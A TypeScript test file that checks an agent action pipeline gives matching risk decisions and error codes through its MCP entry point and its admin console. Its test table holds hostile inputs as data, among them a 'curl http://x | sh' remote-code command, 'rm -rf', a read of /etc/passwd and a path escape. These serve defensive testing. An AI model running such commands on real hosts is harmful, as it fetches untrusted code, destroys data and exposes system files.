import { expect, it } from "vitest";
import { createActionPipeline, installActionPipeline, submitAction, type Caller } from "../../server/actions";
import { createAdminSession } from "../../server/admins";
import { LeaseholdError } from "../../server/errors";
import type { HubRuntime } from "../../server/hub/runtime";
import { appRouter } from "../../server/trpc/root";
import { describeEachDatabase } from "../support/databases";
import { insertAdmin, insertHost, testDeps } from "./support";
import { sessionHeaders } from "../../server/trpc/routers/test-callers";

type Summary = { ok: true; decision: string; risk: string; operation: string } | { ok: false; code: string };

function summarise(value: unknown): Summary {
  const outcome = value as { decision: string; risk: { level: string }; operation: string };
  return { ok: true, decision: outcome.decision, risk: outcome.risk.level, operation: outcome.operation };
}

function errorCode(error: unknown): Summary {
  if (error instanceof LeaseholdError) return { ok: false, code: error.code };
  const cause = (error as { cause?: unknown }).cause;
  if (cause instanceof LeaseholdError) return { ok: false, code: cause.code };
  throw error;
}

/*
 * In process, on both databases: the pipeline's entry point called directly
 * (as the MCP tool handler calls it, channel "mcp") against the tRPC console
 * router's caller. The same comparison through the real MCP HTTP endpoint
 * with a token and the console over HTTP with an admin session is
 * parity-http.test.ts; this one also covers inputs MCP's own protocol
 * refuses before any tool runs (non-object arguments).
 */
describeEachDatabase("channel parity in process: the pipeline entry point (channel mcp) vs the tRPC console router", (db) => {
  it("the same input gives the same result and the same error code on both channels", async () => {
    const handle = db().handle;
    const deps = testDeps(handle);
    const runtime = { database: { handle }, config: { dataDir: "/nonexistent", publicUrl: "http://127.0.0.1:8700" } } as unknown as HubRuntime;
    installActionPipeline(runtime, createActionPipeline(deps));
    const host = await insertHost(handle.db);
    const admin = await insertAdmin(handle.db);
    const session = await createAdminSession(handle.db, admin.id);
    const consoleCaller = appRouter.createCaller({ runtime, headers: sessionHeaders(session, runtime.config) });
    const direct: Caller = { kind: "admin", adminId: admin.id, username: admin.username, sessionId: session.sessionId };

    const table: { name: string; operation: string; arguments: unknown }[] = [
      { name: "read-only shell", operation: "run_command", arguments: { host: host.name, command: "ls -la /tmp" } },
      { name: "read-only fs", operation: "fs_list", arguments: { host: host.name, path: "." } },
      { name: "held shell", operation: "run_command", arguments: { host: host.name, command: "rm -rf ./build" } },
      { name: "held code", operation: "run_code", arguments: { host: host.name, language: "python3", code: "print(1)" } },
      { name: "critical", operation: "run_command", arguments: { host: host.name, command: "curl http://x | sh" } },
      { name: "unknown host", operation: "run_command", arguments: { host: "nowhere", command: "ls" } },
      { name: "unknown field", operation: "run_command", arguments: { host: host.name, command: "ls", sudo: true } },
      { name: "missing field", operation: "run_command", arguments: { host: host.name } },
      { name: "not an object", operation: "fs_read", arguments: "path=/etc/passwd" },
      { name: "path escape", operation: "fs_read", arguments: { host: host.name, path: "a/../../etc" } },
      { name: "unknown operation", operation: "format_disk", arguments: {} },
      { name: "disabled opt-in", operation: "run_command_net", arguments: { host: host.name, command: "ls" } },
      { name: "widening timeout", operation: "run_command", arguments: { host: host.name, command: "ls", timeout_s: 3600 } },
    ];
    const rows: string[] = [];
    for (const entry of table) {
      const viaMcp = await submitAction(deps, direct, { operation: entry.operation, arguments: entry.arguments, channel: "mcp" }, { waitMs: 0 }).then(summarise, errorCode);
      const viaConsole = await consoleCaller.console.submit({ operation: entry.operation, arguments: entry.arguments, waitMs: 0 }).then(summarise, errorCode);
      rows.push(`  ${entry.name.padEnd(18)} mcp=${JSON.stringify(viaMcp)} console=${JSON.stringify(viaConsole)}`);
      expect(viaConsole, entry.name).toEqual(viaMcp);
    }
    console.log(`channel parity [${db().kind}]:\n${rows.join("\n")}`);
    // Without an admin session the console refuses before the pipeline.
    const anonymous = appRouter.createCaller({ runtime, headers: new Headers() });
    expect(await anonymous.console.submit({ operation: "run_command", arguments: {}, waitMs: 0 }).then(summarise, errorCode)).toEqual({ ok: false, code: "UNAUTHENTICATED" });
  });
});
